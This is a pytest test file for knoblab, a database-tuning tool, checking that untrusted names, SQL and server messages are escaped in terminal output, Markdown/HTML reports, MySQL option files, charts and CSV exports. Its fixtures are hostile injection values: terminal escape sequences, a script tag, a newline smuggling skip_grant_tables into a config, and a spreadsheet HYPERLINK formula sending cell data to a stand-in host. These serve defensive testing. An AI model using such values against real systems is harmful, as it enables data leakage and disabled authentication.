"""Text that did not come from knoblab (names, descriptions, SQL, step labels, the server's
messages) reaches every output as it is: never read as console markup, no control character
reaching the terminal, never Markdown or HTML structure in the report, never a line of its own
in an option file, never a formula or a missing glyph in a chart. And a stdout that cannot be
written (full, closed) costs one line, not a traceback nor the report."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from knoblab import cli
from knoblab.literal import code_block, literal, markdown
from knoblab.results import build_results
from knoblab.store import Store

GOLDEN = Path(__file__).parent / "data" / "golden"
SWEEP, STEPS, SYSBENCH = "b96b0a30", "f61cfbb4", "12e2ef67"  # golden runs of each kind

MARKUP = ["[/]", "[bold]bold[/bold]", "[link=https://example.org]here[/link]", ":thumbs_up:",
          "[red"]
CONTROL = "\x1b[31mred\x1b[0m \x1b]0;title\x07 back\rspace\x08 \x9bc end"


def _store(tmp_path: Path) -> Path:
    db = tmp_path / "store.sqlite"
    shutil.copy(GOLDEN / "store.sqlite", db)
    return db


def _rename(db: Path, run_id: str, name: str) -> None:
    with sqlite3.connect(db) as c:
        c.execute("UPDATE runs SET name = ? WHERE id = ?", (name, run_id))


def _edit_info(db: Path, run_id: str, edit) -> None:
    with sqlite3.connect(db) as c:
        info = json.loads(c.execute("SELECT info FROM runs WHERE id = ?", (run_id,)).fetchone()[0])
        edit(info)
        c.execute("UPDATE runs SET info = ? WHERE id = ?", (json.dumps(info), run_id))


def _copy_run(db: Path, run_id: str, new_id: str) -> None:
    """The same run under another id: compare needs two of the same work."""
    with sqlite3.connect(db) as c:
        for table, key in (("runs", "id"), ("points", "run_id"), ("trials", "run_id")):
            columns = [row[1] for row in c.execute(f"PRAGMA table_info({table})")
                       if not (table == "trials" and row[1] == "id")]
            chosen = ", ".join("?" if col == key else col for col in columns)
            c.execute(f"INSERT INTO {table} ({', '.join(columns)}) SELECT {chosen} FROM {table} "
                      f"WHERE {key} = ?", (new_id, run_id))


def _main(db: Path, *args: str) -> int:
    return cli.main(["--store", f"sqlite:///{db}", *args])


_VOID = {"meta", "img", "br", "hr", "input", "link"}


class _Text(HTMLParser):
    """The text of a page, and the text each element held (whitespace as a reader sees it)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.by_tag: dict[str, list[str]] = {}
        self.text: list[str] = []
        self._open: list[tuple[str, int]] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)
        self.by_tag.setdefault(tag, []).append("")
        if tag not in _VOID:
            self._open.append((tag, len(self.by_tag[tag]) - 1))

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop()[0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        for tag, index in self._open:
            self.by_tag[tag][index] += data


def _words(text: str) -> str:
    return " ".join(text.split())


def _page(html: str) -> _Text:
    page = _Text()
    page.feed(html)
    return page


def test_markup_in_names_is_shown_as_it_is(tmp_path: Path, capsys) -> None:
    db = _store(tmp_path)
    _copy_run(db, SWEEP, "c0ffee00")
    for i, (run_id, name) in enumerate(zip((SWEEP, "c0ffee00", STEPS, SYSBENCH, "c851d667"),
                                           MARKUP, strict=True)):
        _rename(db, run_id, name)
        assert _main(db, "report", run_id, "--out", str(tmp_path / f"r{i}")) == 0
        assert name in capsys.readouterr().out
    # Every later command that lists or compares them goes on working.
    assert _main(db, "runs") == 0
    out = capsys.readouterr().out
    assert all(name in out for name in MARKUP), out
    assert _main(db, "runs", "--name", "[") == 0 and "[/]" in capsys.readouterr().out
    assert _main(db, "compare", SWEEP, "c0ffee00") == 0
    assert "[/]: run c0ffee00 against run b96b0a30" in capsys.readouterr().out


def test_control_characters_never_reach_the_terminal(tmp_path: Path, capsys) -> None:
    db = _store(tmp_path)
    _copy_run(db, SWEEP, "c0ffee00")
    _rename(db, SWEEP, CONTROL + "\nsecond line")
    _edit_info(db, SWEEP, lambda info: info["workload"].update(sql="SELECT '\x1b[2J' FROM dt2"))
    _edit_info(db, "c0ffee00", lambda info: info["workload"].update(
        sql="SELECT '\x1b[2J' FROM dt2"))
    with sqlite3.connect(db) as c:  # a failure whose message holds an escape sequence
        c.execute("UPDATE trials SET status = 'failed', value = NULL, error = ? WHERE id = "
                  "(SELECT min(id) FROM trials WHERE run_id = ?)",
                  ("Unknown column '\x1b[5mx' in 'field list'", SWEEP))
    codes = [_main(db, "report", SWEEP, "--out", str(tmp_path / "r")), _main(db, "runs"),
             _main(db, "compare", SWEEP, "c0ffee00")]
    captured = capsys.readouterr()
    assert codes == [0, 0, 0], captured.err
    shown = captured.out + captured.err
    for control in ("\x1b", "\r", "\x07", "\x08", "\x9b"):
        assert control not in shown
    assert "\\x1b[31mred\\x1b[0m" in shown and "SELECT '\\x1b[2J' FROM dt2" in shown
    assert "\\x1b[5mx" in shown  # the server's message, in the conclusion's "Failed:"
    # the name stays on the title's line: a line break where one line is expected is a space
    assert "\\x9bc end second line" in shown


def test_the_markdown_report_shows_names_and_sql_as_they_are(tmp_path: Path) -> None:
    db = _store(tmp_path)
    name = "x\n# Injected heading\n<script>alert(1)</script> *not emphasis* [a](http://e) `c`"
    sql = "SELECT `grp`, 1 < 2 FROM dt2 -- ```\n| a | b |"
    description = "1. not a list\n---\n> not a quote & &amp; _x_"
    _rename(db, SWEEP, name)
    _edit_info(db, SWEEP, lambda info: info["workload"].update(sql=sql))
    with sqlite3.connect(db) as c:
        spec = c.execute("SELECT spec_source FROM runs WHERE id = ?", (SWEEP,)).fetchone()[0]
        c.execute("UPDATE runs SET spec_source = ? WHERE id = ?",
                  (f"description = {json.dumps(description)}\n{spec}\n# ```` end\n", SWEEP))
    out = tmp_path / "r"
    assert _main(db, "report", SWEEP, "--out", str(out)) == 0
    text = (out / "report.md").read_text()
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    page = _page(rendered)
    # Only knoblab's own structure: one h1, no script, no link, no quote, no list
    assert page.tags.count("h1") == 1 and "script" not in page.tags
    assert not {"a", "blockquote", "ol", "em"} & set(page.tags)
    assert _words(page.by_tag["h1"][0]).startswith(_words(literal(name)))
    words = _words(" ".join(page.text))
    assert _words(literal(name)) in words
    assert _words(literal(description)) in words
    assert _words(literal(sql)) in words
    # the spec, whole, in one code block that its own backticks do not end
    assert "# ```` end" in page.by_tag["code"][-1] and "---" in page.by_tag["code"][-1]
    # and the page says the same, escaped as HTML
    html = _page((out / "report.html").read_text())
    assert "script" not in html.tags
    assert _words(html.by_tag["h1"][0]).startswith(_words(literal(name)))


def test_a_line_break_in_a_name_or_value_never_becomes_a_setting(tmp_path: Path) -> None:
    from knoblab.report.tuning import mycnf

    db = _store(tmp_path)
    _rename(db, SWEEP, "x\ninnodb_flush_log_at_trx_commit = 0\x1b[2J")
    out = tmp_path / "r"
    assert _main(db, "report", SWEEP, "--out", str(out)) == 0
    lines = (out / "recommended.cnf").read_text().splitlines()
    assert all(line.startswith("#") or line == "[mysqld]" or "=" in line for line in lines)
    assert not any(line.startswith("innodb_flush_log_at_trx_commit") for line in lines)
    assert "\x1b" not in "".join(lines)
    fragment = mycnf({"init_connect": "SET x = 1\nskip_grant_tables = ON"})
    assert fragment.splitlines() == ["[mysqld]", "init_connect = SET x = 1 skip_grant_tables = ON"]


def test_charts_draw_any_name_without_a_warning(tmp_path: Path) -> None:
    from knoblab.report import write_charts

    db = _store(tmp_path)
    store = Store(f"sqlite:///{db}")
    for run_id in (SWEEP, STEPS, SYSBENCH):
        # emoji, CJK, a formula matplotlib cannot parse, an escape sequence, a tab
        _rename(db, run_id, "💥 性能テスト $\\frac{a$ \x1b[31m\tx_y")
        results = build_results(store, run_id)
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            paths = write_charts(results, tmp_path / run_id)
        assert paths and all(p.stat().st_size > 10_000 for p in paths)
        assert [str(w.message) for w in caught] == []


def test_literal_makes_every_control_character_visible() -> None:
    text = "a\x00b\x1bc\x7fd\x85e\x9bf\u202eg\u2066h\udcffi\tj\u2028k\r\nl"
    assert literal(text) == "a\\x00b\\x1bc\\x7fd e\\x9bf\\u202eg\\u2066h\\udcffi\tj k l"
    assert literal(text, lines=True).splitlines()[-1] == "l"
    assert literal("日本語 💥 [/]") == "日本語 💥 [/]"
    assert literal(literal(text)) == literal(text)  # once or twice: the same
    assert markdown("1. a") == "1\\. a" and markdown("- a") == "\\- a"
    assert markdown("read_buffer_size _x_ *y*") == "read_buffer_size \\_x\\_ \\*y\\*"
    assert code_block("```\n````", "toml").startswith("`````toml\n")


def _knoblab(db: Path, *args: str, **kwargs) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "KNOBLAB_HOME": str(db.parent / "home")}
    return subprocess.run([sys.executable, "-m", "knoblab.cli", "--store", f"sqlite:///{db}",
                           *args], env=env, text=True, stderr=subprocess.PIPE, timeout=120,
                          **kwargs)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_stdout_is_one_line_and_loses_no_report(tmp_path: Path) -> None:
    db = _store(tmp_path)
    out = tmp_path / "r"
    with open("/dev/full", "w") as full:
        listed = _knoblab(db, "runs", stdout=full)
        reported = _knoblab(db, "report", SWEEP, "--out", str(out), stdout=full)
    for done in (listed, reported):
        assert done.returncode == 2, done.stderr
        assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
        assert done.stderr.startswith("knoblab: cannot write to standard output (No space left")
    assert f"its report is in {out}" in reported.stderr
    assert (out / "report.html").exists() and (out / "result.json").exists()


def test_a_reader_that_stops_reading_is_no_error(tmp_path: Path) -> None:
    """`knoblab runs | head -1`: the pipe closes early; knoblab ends quietly, its work done."""
    db = _store(tmp_path)
    read, write = os.pipe()
    os.close(read)  # the reader is gone before the first line
    try:
        listed = _knoblab(db, "runs", stdout=write)
        reported = _knoblab(db, "report", SWEEP, "--out", str(tmp_path / "r"), stdout=write)
    finally:
        os.close(write)
    for done in (listed, reported):
        assert done.returncode == 0 and done.stderr == ""
    assert (tmp_path / "r" / "report.html").exists()


def test_a_chart_draws_what_an_installed_font_has_and_marks_the_rest() -> None:
    from knoblab.report.charts import _fonts, drawable

    assert drawable("a $\\frac{x$ \x1b[1m\tb") == "a \\$\\frac{x\\$ \\x1b[1m b"
    _, chars = _fonts()
    assert drawable("\U0001f4a5") == ("\U0001f4a5" if 0x1F4A5 in chars else "\u25a1")
    if 0x6027 not in chars:
        pytest.skip("no CJK font installed (scripts/setup installs fonts-noto-cjk)")
    assert drawable("性能テスト") == "性能テスト"


def test_the_one_line_of_an_error_shows_what_was_typed_literally(tmp_path: Path, monkeypatch,
                                                                 capsys) -> None:
    monkeypatch.setenv("KNOBLAB_HOME", str(tmp_path / "home"))
    db = _store(tmp_path)
    assert _main(db, "run", str(tmp_path / "\x1b[2Jnosuch\r.toml")) == 2
    assert _main(db, "report", "\x1b]0;x\x07") == 2
    with pytest.raises(SystemExit) as stopped:
        _main(db, "runs", "\x1b[31m")  # argparse: "unrecognized arguments: …"
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert "\\x1b[2Jnosuch .toml" in err and "\\x1b[31m" in err
    assert not any(c in err for c in "\x1b\r\x07") and err.count("\n") == 3


def test_with_stderr_closed_an_error_is_not_written_to_stdout(tmp_path: Path) -> None:
    db = _store(tmp_path)
    for args in (["report", "nosuch"], ["runs", "--limit", "x"]):
        done = subprocess.run([sys.executable, "-m", "knoblab.cli", "--store", f"sqlite:///{db}",
                               *args], capture_output=True, text=True, timeout=120,
                              preexec_fn=lambda: os.close(2))
        assert done.returncode == 2 and done.stdout == ""


def test_measurements_csv_opens_in_a_spreadsheet_as_text(tmp_path: Path) -> None:
    # A server's message (or any text) starting like a formula would run in a spreadsheet.
    db = _store(tmp_path)
    with sqlite3.connect(db) as c:
        c.execute("UPDATE trials SET status = 'failed', value = NULL, error = ? WHERE id = "
                  "(SELECT min(id) FROM trials WHERE run_id = ?)",
                  ('=HYPERLINK("http://x.example/?"&A1,"see")\x1b[2J', SWEEP))
    assert _main(db, "report", SWEEP, "--out", str(tmp_path / "r")) == 0
    with (tmp_path / "r" / "measurements.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    errors = [row["error"] for row in rows if row["error"]]
    assert errors == ['\'=HYPERLINK("http://x.example/?"&A1,"see")\\x1b[2J'], errors
    assert all(not row["value"].startswith("'") for row in rows)  # numbers stay numbers
